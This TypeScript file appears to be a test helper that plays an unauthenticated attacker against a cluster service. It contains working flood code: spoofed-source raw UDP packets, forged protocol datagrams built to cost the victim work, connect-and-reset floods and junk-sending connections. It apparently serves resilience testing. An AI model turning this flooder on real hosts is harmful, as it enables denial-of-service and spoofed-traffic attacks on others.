/**
 * An attacker without the key, as a process: sends datagrams and opens connections as fast as this host lets it, until its
 * standard input closes. Prints what it has sent, once a second and at the end. Argument: JSON of {@link Flood}.
 */
import { createHash, randomBytes } from 'node:crypto';
import { connect } from 'node:net';
import {
  AF_INET,
  closeDescriptor,
  connectSocket,
  type Descriptor,
  openSocket,
  SO_SNDBUFFORCE,
  SOCK_DGRAM,
  SOCK_RAW,
  SOCK_STREAM,
  SOL_SOCKET,
  sendMessage,
  setSocketOption,
} from '../../src/platform/libc.ts';

export interface Flood {
  /** `connections` stay and say nonsense or nothing; `connects` are closed as soon as they stand. */
  readonly kind: 'datagrams' | 'connections' | 'connects';
  /** IPv4 addresses of the victims. */
  readonly targets: readonly string[];
  readonly port: number;
  /** Its name in clear is in every datagram of the members: anybody on the link may know it. */
  readonly cluster: string;
  /** False sources of datagrams; absent: our own. */
  readonly sources?: readonly string[];
  /** Connections at once. */
  readonly atOnce?: number;
}

const IPPROTO_RAW = 255;
/** Closing resets the connection, so that ports are free again at once (socket(7), SO_LINGER). */
const SO_LINGER = 13;
const AT_ONCE = Buffer.from([1, 0, 0, 0, 0, 0, 0, 0]);
const SOL_UDP = 17;
const UDP_SEGMENT = 103;
/** With our own source the kernel cuts one call into so many datagrams (udp(7), UDP_SEGMENT): what one core can send. */
const SEGMENTS = 60;
const DATAGRAM_BYTES = 61;
/** Calls between two looks at the clock. */
const LOT = 64;

const flood = JSON.parse(process.argv[2] ?? '') as Flood;
let sent = 0;
const tell = (): void => void process.stdout.write(`${JSON.stringify({ sent })}\n`);
setInterval(tell, 1000);
process.stdin.resume().on('end', () => {
  tell();
  process.exit(0);
});
if (flood.kind === 'datagrams') sendDatagrams(flood);
else if (flood.kind === 'connects') sendConnects(flood);
else for (let count = 0; count < (flood.atOnce ?? 200); count += 1) openConnection(count);

function sendDatagrams({ targets, sources }: Flood): void {
  const raw = sources !== undefined;
  const fd = openSocket({
    domain: AF_INET,
    type: raw ? SOCK_RAW : SOCK_DGRAM,
    protocol: raw ? IPPROTO_RAW : 0,
  });
  setSocketOption(fd, { level: SOL_SOCKET, name: SO_SNDBUFFORCE, value: 4 << 20 });
  if (!raw) setSocketOption(fd, { level: SOL_UDP, name: UDP_SEGMENT, value: DATAGRAM_BYTES });
  const packets = Array.from({ length: 60 }, (_, number) => {
    const target = targets[number % targets.length]!;
    const payload = raw
      ? mixed(number)
      : Buffer.concat(Array.from({ length: SEGMENTS }, (__, i) => mixed(i)));
    const source = sources?.[number % sources.length];
    return {
      bytes: source === undefined ? payload : withHeaders(payload, source, target),
      address: socketAddress(target),
    };
  });
  let calls = 0;
  const turn = (): void => {
    for (let count = 0; count < LOT; count += 1) {
      const { bytes, address } = packets[(calls + count) % packets.length]!;
      sendMessage(fd, bytes, { address });
    }
    calls += LOT;
    sent += raw ? LOT : LOT * SEGMENTS;
    setImmediate(turn);
  };
  turn();
}

/** Every third datagram is noise, of the others the victim must look at more. */
function mixed(number: number): Buffer {
  return number % 3 === 0 ? randomBytes(DATAGRAM_BYTES) : plausible(number % 3 === 1 ? 1 : 2);
}

/** All but the code is as a member would send it: the victim must compute to see that it is false. */
function plausible(kind: 1 | 2): Buffer {
  const head = Buffer.from([0x57, 0x6d, 1, kind]);
  const cluster = createHash('sha256').update(flood.cluster).digest().subarray(0, 4);
  const rest = Buffer.alloc(19);
  rest.writeBigUInt64BE(7n, 4);
  rest.writeUInt32BE(Math.floor(Date.now() / 1000), 12);
  rest.writeUInt16BE(flood.port, 16);
  const id = Buffer.from('a#0123456789abcdef', 'latin1');
  rest.writeUInt8(id.length, 18);
  return Buffer.concat([head, cluster, rest, id, randomBytes(16)]);
}

function withHeaders(payload: Buffer, source: string, target: string): Buffer {
  const packet = Buffer.alloc(28 + payload.length);
  packet.writeUInt8(0x45, 0);
  packet.writeUInt8(64, 8);
  packet.writeUInt8(17, 9);
  packet.set(source.split('.').map(Number), 12);
  packet.set(target.split('.').map(Number), 16);
  packet.writeUInt16BE(flood.port, 20);
  packet.writeUInt16BE(flood.port, 22);
  packet.writeUInt16BE(8 + payload.length, 24);
  packet.set(payload, 28);
  return packet;
}

function socketAddress(host: string): Buffer {
  const address = Buffer.alloc(16);
  address.writeUInt16LE(AF_INET, 0);
  address.writeUInt16BE(flood.port, 2);
  address.set(host.split('.').map(Number), 4);
  return address;
}

/** As many handshakes as one core can do; most are closed before the victim has accepted them. */
function sendConnects({ targets }: Flood): void {
  const addresses = targets.map(socketAddress);
  const open: Descriptor[] = [];
  const turn = (): void => {
    for (let count = 0; count < LOT; count += 1) {
      const fd = openSocket({ domain: AF_INET, type: SOCK_STREAM, protocol: 0 });
      setSocketOption(fd, { level: SOL_SOCKET, name: SO_LINGER, value: AT_ONCE });
      try {
        connectSocket(fd, addresses[sent % addresses.length]!);
      } catch {
        // EINPROGRESS, or no port is free: that is what a flood is like.
      }
      open.push(fd);
      sent += 1;
      if (open.length > (flood.atOnce ?? 200)) closeDescriptor(open.shift()!);
    }
    setImmediate(turn);
  };
  turn();
}

/** Opens, says a little or nothing, and as soon as it is over opens the next. */
function openConnection(number: number): void {
  const host = flood.targets[number % flood.targets.length]!;
  const socket = connect({ host, port: flood.port });
  sent += 1;
  socket.on('connect', () => {
    if (number % 2 === 0) socket.write(randomBytes(300));
  });
  socket.resume();
  socket.on('error', () => undefined);
  socket.on('close', () => setImmediate(() => openConnection(number)));
}
